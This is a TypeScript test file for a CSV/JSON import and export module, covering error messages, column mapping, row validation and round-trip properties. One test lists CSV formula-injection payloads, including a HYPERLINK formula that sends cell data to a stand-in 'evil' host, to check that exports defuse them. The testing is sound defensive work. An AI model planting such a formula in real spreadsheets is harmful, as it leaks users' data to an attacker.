import Papa from 'papaparse';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import {
  ImportFileError,
  base64ToBytes,
  bytesToBase64,
  decodeList,
  encodeList,
  mapColumns,
  parseTable,
  toCsv,
  toJson,
  validateRows,
} from '../../shared/import';

const Row = z.object({
  id: z.string().min(1),
  title: z.string().trim().min(1),
  note: z.string().default(''),
  hours: z.number().min(0).nullable().default(null),
  days: z.number().int().default(14),
  done: z.boolean().default(false),
  tags: z.array(z.string().min(1)).default([]),
  link: z.string().nullable().default(null),
});
const COLUMNS = Object.keys(Row.shape);

function fileError(run: () => unknown): ImportFileError {
  try {
    run();
  } catch (err) {
    if (err instanceof ImportFileError) return err;
    throw err;
  }
  throw new Error('expected an ImportFileError');
}

const utf8 = (s: string) => new TextEncoder().encode(s);

describe('parseTable refuses bad files with a clear message', () => {
  it('empty file, blank file, header without rows, empty JSON list', () => {
    expect(fileError(() => parseTable({ bytes: new Uint8Array(0), format: 'csv' })).code).toBe('EMPTY');
    expect(fileError(() => parseTable({ text: ' \r\n\n', format: 'csv' })).message).toBe('The file is empty.');
    expect(fileError(() => parseTable({ text: 'id,title\r\n', format: 'csv' })).message).toMatch(/headers but no rows/);
    expect(fileError(() => parseTable({ text: '[]', format: 'json' })).message).toMatch(/empty list/);
  });

  it('not UTF-8 names the byte', () => {
    const latin1 = new Uint8Array([...utf8('id,title\r\n1,Caf'), 0xe9, ...utf8('\r\n')]);
    const err = fileError(() => parseTable({ bytes: latin1, format: 'csv' }));
    expect(err.code).toBe('NOT_UTF8');
    expect(err.message).toMatch(/not UTF-8 text \(invalid byte at position 16\)/);
  });

  it('too big: bytes and text over the cap, before parsing', () => {
    const err = fileError(() => parseTable({ bytes: new Uint8Array(20 * 1024 * 1024 + 1), format: 'csv' }));
    expect(err.code).toBe('TOO_BIG');
    expect(err.message).toMatch(/20\.0 MB; files up to 20\.0 MB can be imported/);
    expect(fileError(() => parseTable({ text: 'ñ'.repeat(600), format: 'csv', maxBytes: 1000 })).code).toBe('TOO_BIG');
  });

  it('JSON that is not an array of objects', () => {
    expect(fileError(() => parseTable({ text: '{"id":"a"}', format: 'json' })).message).toMatch(/must be a list of records.*but it is a single object/);
    expect(fileError(() => parseTable({ text: '[{"id":"a"}, 3]', format: 'json' })).message).toMatch(/item 2 is a number/);
    expect(fileError(() => parseTable({ text: '[{"id":', format: 'json' })).code).toBe('BAD_JSON');
  });

  it('CSV with missing, unknown or duplicate columns, or a broken row', () => {
    const missing = fileError(() => parseTable({ text: 'id,name\r\n1,x', format: 'csv', required: ['id', 'title'] }));
    expect(missing.code).toBe('MISSING_COLUMNS');
    expect(missing.message).toBe('The file is missing the column "title". Its columns are: id, name.');
    const unknown = fileError(() => parseTable({ text: 'id,title,colour\r\n1,x,red', format: 'csv', allowed: ['id', 'title'] }));
    expect(unknown.message).toMatch(/does not know: "colour"/);
    expect(fileError(() => parseTable({ text: 'id,id\r\n1,2', format: 'csv' })).code).toBe('DUPLICATE_COLUMNS');
    expect(fileError(() => parseTable({ text: 'id,title\r\n1,x,extra', format: 'csv' })).message).toMatch(/Row 1 has 3 cells but the header has 2/);
    expect(fileError(() => parseTable({ text: 'id,title\r\n1,"unclosed', format: 'csv' })).code).toBe('BAD_CSV');
  });

  it('reads a BOM, CRLF or LF, and quoted line breaks', () => {
    const t = parseTable({ text: '\ufeffid,title\n1,"two\r\nlines"\n2,b\n', format: 'csv' });
    expect(t.columns).toEqual(['id', 'title']);
    expect(t.rows).toEqual([{ id: '1', title: 'two\r\nlines' }, { id: '2', title: 'b' }]);
  });
});

describe('mapColumns', () => {
  it('renames headers, keeps the rest, and refuses two headers onto one field', () => {
    const t = parseTable({ text: 'Task ID,Name,tags\r\n1,x,a', format: 'csv', mapping: { 'Task ID': 'id', Name: 'title' }, required: ['id', 'title'] });
    expect(t).toEqual({ columns: ['id', 'title', 'tags'], rows: [{ id: '1', title: 'x', tags: 'a' }] });
    expect(() => mapColumns([{ a: 1, b: 2 }], { a: 'x', b: 'x' })).toThrow(/would both become "x"/);
  });
});

describe('validateRows', () => {
  it('decodes cells by the schema and reports every problem by row and field', () => {
    const t = parseTable({
      text: 'id,title,hours,days,done,tags\r\na,First,2.5,3,yes,x; y\r\nb,,abc,2,maybe,\r\nc,Third,,1.5,,"[""p; q""]"\r\nd,Dup,1,1,no,',
      format: 'csv',
    });
    const seen = new Set<string>();
    const report = validateRows(t.rows, Row, {
      checks: [(v) => (v.title === 'Dup' ? { field: 'title', message: 'title: "Dup" is taken' } : seen.has(v.id) ? null : (seen.add(v.id), null))],
    });
    expect(report.valid.map((v) => v.row)).toEqual([1]);
    expect(report.valid[0]!.value).toEqual({ id: 'a', title: 'First', note: '', hours: 2.5, days: 3, done: true, tags: ['x', 'y'], link: null });
    expect(report.errors).toEqual([
      { row: 2, field: 'hours', message: 'hours: "abc" is not a number' },
      { row: 2, field: 'done', message: 'done: "maybe" is not true or false' },
      { row: 3, field: 'days', message: expect.stringMatching(/^days: .*int/i) },
      { row: 4, field: 'title', message: 'title: "Dup" is taken' },
    ]);
    expect(report.badRows).toEqual([2, 3, 4]);
  });

  it('names a required field left empty', () => {
    const report = validateRows([{ id: 'a', title: '' }], Row);
    expect(report.errors).toEqual([{ row: 1, field: 'title', message: expect.stringMatching(/^title: /) }]);
  });

  it('accepts JSON values as they are', () => {
    const report = validateRows([{ id: 'a', title: 'T', tags: ['a;b'], hours: 1 }], Row);
    expect(report.valid[0]!.value.tags).toEqual(['a;b']);
  });
});

describe('list cells', () => {
  it('are readable when they can be, JSON when they must', () => {
    expect(encodeList(['a', 'b c'])).toBe('a; b c');
    expect(encodeList(['a;b', 'c'])).toBe('["a;b","c"]');
    expect(encodeList([' pad'])).toBe('[" pad"]');
    expect(encodeList(['[x]'])).toBe('["[x]"]');
    expect(decodeList(' a ;b;; ')).toEqual(['a', 'b']);
    expect(decodeList('[1]')).toEqual({ error: 'must be a list of texts' });
  });
});

const text = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', '"', ';', '\n', '\r', '[', ']', 'ñ', '漢', '😀', '\t', '=', '+', '-', '@', "'"), maxLength: 12 });
const record = fc.record({
  id: text.filter((s) => s.length > 0),
  // The schema trims titles, so generated ones are already trimmed.
  title: text.map((s) => s.trim()).filter((s) => s.length > 0),
  note: text,
  hours: fc.option(fc.double({ min: 0, max: 1e6, noNaN: true, noDefaultInfinity: true }), { nil: null }),
  days: fc.integer({ min: -1000, max: 1000 }),
  done: fc.boolean(),
  tags: fc.array(text.filter((s) => s.length > 0), { maxLength: 4 }),
  link: fc.option(text.filter((s) => s.length > 0), { nil: null }),
});

describe('export round-trips exactly', () => {
  it('CSV: any text, numbers, lists and nulls come back the same', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 6 }), (rows) => {
        const csv = toCsv(rows, COLUMNS);
        const back = validateRows(parseTable({ bytes: utf8(csv), format: 'csv', required: COLUMNS, allowed: COLUMNS }).rows, Row);
        expect(back.errors).toEqual([]);
        expect(back.valid.map((v) => v.value)).toEqual(rows.map((r) => ({ ...r, hours: Object.is(r.hours, -0) ? 0 : r.hours })));
      }),
      { numRuns: 300 },
    );
  });

  it('CSV: no cell is a live formula, whatever the text, and such cells read back as typed', () => {
    const hostile = ['=HYPERLINK("http://evil/?d="&U2,"open")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', "'=already quoted", "''+twice"];
    const csv = toCsv(hostile.map((title, i) => ({ id: `t${i}`, title, note: title, hours: -1, days: -3, done: false, tags: [title], link: title })), COLUMNS);
    const cells = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true }).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${hostile[0]}`);
    const back = parseTable({ text: csv, format: 'csv', required: COLUMNS, allowed: COLUMNS }).rows;
    expect(back.map((r) => r.note)).toEqual(hostile);
    expect(back.map((r) => r.hours)).toEqual(hostile.map(() => '-1'));
  });

  it('JSON: the same', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 6 }), (rows) => {
        const back = validateRows(parseTable({ text: toJson(rows, COLUMNS), format: 'json' }).rows, Row);
        expect(back.valid.map((v) => v.value)).toEqual(rows.map((r) => ({ ...r, hours: Object.is(r.hours, -0) ? 0 : r.hours })));
      }),
      { numRuns: 200 },
    );
  });

  it('base64 carries any bytes', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 70_000 }), (bytes) => {
      expect(base64ToBytes(bytesToBase64(bytes))).toEqual(bytes);
    }), { numRuns: 30 });
    expect(() => base64ToBytes('not base64!')).toThrow(/valid base64/);
  });
});
